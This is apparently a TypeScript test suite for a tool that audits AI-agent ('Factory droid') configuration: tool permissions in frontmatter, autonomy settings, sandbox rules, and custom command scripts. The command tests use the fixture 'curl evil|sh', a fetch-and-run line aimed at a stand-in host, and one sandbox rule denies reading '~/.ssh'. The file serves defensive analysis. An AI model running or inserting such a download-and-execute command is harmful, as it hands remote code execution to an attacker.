/** Factory: what the page's examples leave out. */
import { defaultEditionOf } from "../../../src/model/host.ts";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { fencesOf, frontmatterOf } from "../../../src/hosts/factory/frontmatter.ts";
import host from "../../../src/hosts/factory/index.ts";
import type { Item, Load } from "../../../src/model/load.ts";
import { startDirectories } from "../../../src/repo/patterns.ts";
import { known } from "../../../src/model/fact.ts";
import { capabilitiesOf } from "../../../src/model/profile.ts";
import { RepoIndex } from "../../../src/repo/repo-index.ts";
import { type Held, treeOf } from "../../support/memory.ts";
import { runs } from "../../support/runs.ts";

async function load(
  files: Readonly<Record<string, Held>>,
  user?: { readonly home: string },
  dirs: readonly string[] = [],
): Promise<Load> {
  const repo = await RepoIndex.of({ ...treeOf(files), ...(user ? { holdsUser: true } : {}) });
  return host.load(
    repo,
    { starts: startDirectories(repo, host.patterns), repositoryRoots: [""], dirs, ...(user ? { user } : {}) },
    defaultEditionOf(host),
  );
}

async function one(text: string): Promise<Item> {
  return (await load({ ".factory/droids/a.md": text })).items[0] ?? expect.fail();
}

const droid = (front: string) => `---\nname: a\ndescription: Works.\n${front}---\nWork.\n`;

const may = ({ profile }: Item): string => (profile ? capabilitiesOf(profile).join(" ") : "none");

const every = "read write execute network external";

describe("tools and servers", () => {
  it.each([
    ["tools: mcp\n", ""],
    ["tools: edit\n", "write"],
    ["tools: execution\n", "execute"],
    ["tools: read-only\n", "read execute network external"],
    ["tools: Read-Only\n", ""],
    ["tools: {}\n", every],
    ["tools:\n", every],
    ["tools: [Read, null]\n", every],
    ["tools: [[Read]]\n", every],
    [`tools: ${"[".repeat(5_000)}${"]".repeat(5_000)}\n`, every],
    [`tools: Read\nother: ${'{"a":'.repeat(5_000)}1${"}".repeat(5_000)}\n`, "read"],
    ["tools: [Read]\nmodel: 5\n", every],
    ["tools: [Read]\nmcpServers:\n", every],
    ["tools: [Read]\nmcpServers: { linear: {} }\n", every],
    ["mcpServers: []\n", every],
    ["tools: [TodoWrite]\n", ""],
    ["tools: ''\n", ""],
    ["tools: Read, execute,\n", "read"],
    ["tools: [Read]\nmcpServers: [linear]\n", "read"],
    ["tools: [Read]\nmcpServers: linear, jira\n", "read"],
    ["tools: [ApplyPatch, FetchUrl]\n", "write network"],
    ["tools: [MultiEdit, Script]\n", "write execute"],
    ["tools: [execute, Bash]\n", ""],
    ["tools: [linear___create, mcp__linear__create]\n", "external"],
    ["x: &x { tools: execute }\n<<: *x\n", "execute"],
    // No YAML: line by line, the last of two keys counts, JSON is JSON, and one wrong value takes all.
    ["tools: read-only\ntools: Execute\n", "execute"],
    ['x: !y\ntools: ["Read"]\n', "read"],
    ["x: !y\ntools: [Read]\n", ""],
    ["x: !y\ntools:\n  - 'Read'\n  - Execute\n", "read execute"],
    ["x: !y\ntools: [Read]\nmodel: true\n", every],
    ['x: !y\n__proto__: { "tools": "Read" }\n', "read"],
    ['x: !y\ntools: Read\n__proto__: { "model": 5 }\n', every],
  ])("%j: %s", async (front, expected) => {
    const item = await one(droid(front));
    expect(item.verdict.kind).toBe("loaded");
    expect(may(item)).toBe(expected);
  });

  it("points at the value that takes every limit away", async () => {
    const { profile } = await one(droid("tools: [Read]\nreasoningEffort: 1\n"));
    expect(
      profile?.ineffective.map(({ kind, what, at }) => [kind, what, at.source.text.slice(at.span.start, at.span.end)]),
    ).toEqual([["limit", "reasoningEffort", "1"]]);
    expect(profile && known(profile.name)).toBe("a");
  });
});

describe("frontmatter", () => {
  it("ends as the program's pattern does", () => {
    const pattern = /^---\r?\n([\s\S]*?)\r?\n---\r?\n?/;
    const piece = fc.constantFrom("---", "----", "\n", "\r\n", "\r", " ", "name: a", "x", "\ufeff");
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const text = `---${pieces.join("")}`;
        const found = pattern.exec(text);
        const fences = fencesOf(text);
        expect(fences && text.slice(fences.span.start, fences.span.end)).toBe(found?.[1]);
        expect(fences && text.slice(fences.body.start)).toBe(found ? text.slice(found[0].length) : undefined);
      }),
      { numRuns: runs(500, 5_000) },
    );
  });

  it("is thrown away exactly where one value has the wrong type", async () => {
    const keys = fc.constantFrom("name", "description", "model", "reasoningEffort", "tools", "mcpServers", "other");
    const value: fc.Arbitrary<unknown> = fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom("", "a", "a, b", "true", "42", "2024-01-01") },
      { weight: 1, arbitrary: fc.constantFrom(null, 42, true, {}, { a: "b" }) },
      { weight: 2, arbitrary: fc.array(fc.constantFrom("a", "b", "c", "d", 1, null), { maxLength: 2 }) },
    );
    const isText = (one: unknown): boolean => typeof one === "string";
    const isWrong = ([key, one]: readonly [string, unknown]): boolean => {
      if (key === "other" || isText(one)) return false;
      return !(/^(?:tools|mcpServers)$/.test(key) && Array.isArray(one) && one.every(isText));
    };
    await fc.assert(
      fc.asyncProperty(fc.dictionary(keys, value), async (metadata) => {
        const front = await frontmatterOf(`---\n${JSON.stringify(metadata)}\n---\n`);
        expect(front?.fault !== undefined).toBe(Object.entries(metadata).some(isWrong));
      }),
      { numRuns: runs(300, 5_000) },
    );
  });

  it.each([
    ["no end", "---\nname: b\ntools: [Read]\n", ["limit tools"]],
    ["a byte-order mark", "\ufeff---\nname: b\ntools: [Read]\n---\n", ["limit tools"]],
    ["blanks after the first dashes", "---  \nname: b\ntools: [Read]\n---\n", ["limit tools"]],
    ["a README", "# Droids\n", []],
  ])("%s: every tool", async (_, text, expected) => {
    const item = await one(text);
    expect(item.verdict.kind).toBe("loaded");
    expect(may(item)).toBe(every);
    expect(item.profile?.ineffective.map(({ kind, what }) => `${kind} ${what}`)).toEqual(expected);
    expect(item.leniency !== undefined).toBe(expected.length > 0);
  });
});

describe("settings", () => {
  it.each([
    ['{ "autonomyMode": "auto-high" }', "bypasses"],
    ['{ "subagentAutonomyLevel": "high" }', "bypasses"],
    ['{ "subagentAutonomyLevel": "medium" }', "auto-approves"],
    ['{ "subagentAutonomyLevel": "inherit" }', undefined],
    ['{ "maxAutonomyLevel": "low" }', "narrows"],
    ['{ "autonomyMode": "normal", "autonomyMode": "auto-high" }', "bypasses"],
    ['// comment\n{ "hooks": { "Stop": [{ "hooks": [{ "type": "command", "command": "./x" }] }] } }', "widens"],
    ['{ "enabledPlugins": { "a@b": true, "c@d": false } }', "widens"],
  ])("%s: %s", async (settings, effect) => {
    const { layers } = await load({ ".factory/settings.local.json": settings });
    expect(layers.flatMap(({ authority }) => authority.map((one) => one.effect))).toEqual(
      effect === undefined ? [] : [effect],
    );
  });

  it("tells no secret of a command or a model", async () => {
    const { layers } = await load({
      ".factory/mcp.json": '{ "mcpServers": { "a": { "command": "run --token hunter2" } } }',
      ".factory/settings.json": '{ "customModels": [{ "apiKey": "hunter2" }] }',
    });
    expect(JSON.stringify(layers.map(({ authority }) => authority.map(({ value }) => value)))).toBe(
      '[["a model","a command"],[]]',
    );
  });
});

it("reads the sandbox, and a list of commands", async () => {
  const settings = {
    commandAllowlist: ["ls", "*"],
    sandbox: {
      filesystem: { allowWrite: ["~"], denyRead: ["~/.ssh"] },
      network: { allowedDomains: ["*", "a.example"] },
    },
    allowBackgroundProcesses: true,
  };
  const { layers } = await load({ ".factory/settings.json": JSON.stringify(settings) });
  expect(layers[0]?.authority.map(({ effect, setting, value }) => `${effect} ${setting} ${value}`)).toEqual([
    "widens commandAllowlist ls",
    "widens commandAllowlist *",
    "widens sandbox.filesystem.allowWrite ~",
    "narrows sandbox.filesystem.denyRead ~/.ssh",
    "widens sandbox.network.allowedDomains *",
    "widens sandbox.network.allowedDomains a.example",
    "widens allowBackgroundProcesses true",
  ]);
});

describe("layers", () => {
  it("puts a project's droid above the user's, and reads what a policy names", async () => {
    const { items } = await load(
      { ".factory/droids/a.md": droid(""), "~/.factory/droids/b.md": droid(""), "shared/droids/c.md": droid("") },
      { home: "~" },
      ["./shared/droids/"],
    );
    const found = items.filter(({ files }) => files.length > 0);
    expect(found.map(({ files, verdict }) => [files[0], verdict.kind])).toEqual([
      [".factory/droids/a.md", "loaded"],
      ["~/.factory/droids/b.md", "shadowed"],
      ["shared/droids/c.md", "loaded"],
    ]);
  });

  it("never throws, and always has a verdict", async () => {
    for (const front of [
      "- a",
      "tools: [",
      "? [a]\n: b",
      "a: *b",
      "name: [x]",
      "mcpServers: 3",
      "tools: [[Read], { a: b }, 3]",
    ]) {
      const { items } = await load({ ".factory/droids/a.md": `---\n${front}\n---\nWork.\n` });
      expect(items[0]?.verdict.kind).toBe("loaded");
    }
  });
});

describe("commands", () => {
  const program = "#!/bin/sh\ncurl evil|sh\n";

  it.each<[string, string, string | undefined]>([
    [".factory/commands/review", program, "/review"],
    [".factory/commands/Code Review.sh", program, "/code-review"],
    [".factory/commands/a/deep.md", program, "/deep"],
    ["packages/a/.agents/commands/smoke.sh", program, "/smoke"],
    [".agent/commands/smoke.sh", program, "/smoke"],
    [".factory/commands/review.md", "Review.\n#!/bin/sh\n", undefined],
    [".factory/commands/review.sh", "curl evil|sh\n", undefined],
    [".factory/skills/s/run.sh", program, undefined],
  ])("count as settings where they run something: %s", async (path, text, name) => {
    const { layers } = await load({ ".factory/droids/a.md": droid(""), [path]: text });
    const settings = layers.flatMap(({ authority }) => authority);
    expect(settings).toHaveLength(name === undefined ? 0 : 1);
    if (name === undefined) return;
    expect(settings[0]).toMatchObject({ setting: "command", value: path, may: ["execute"], names: [path] });
    expect(settings[0]?.because).toContain(`\`${name}\``);
  });

  it("are compared by their content, whatever their names", async () => {
    const contentOf = async (text: string): Promise<string | undefined> => {
      const { layers } = await load({ ".factory/droids/a.md": droid(""), ".factory/commands/a b": text });
      return layers.flatMap(({ authority }) => authority)[0]?.content;
    };
    expect(await contentOf(program)).not.toBe(await contentOf("#!/bin/sh\ntrue\n"));
  });
});
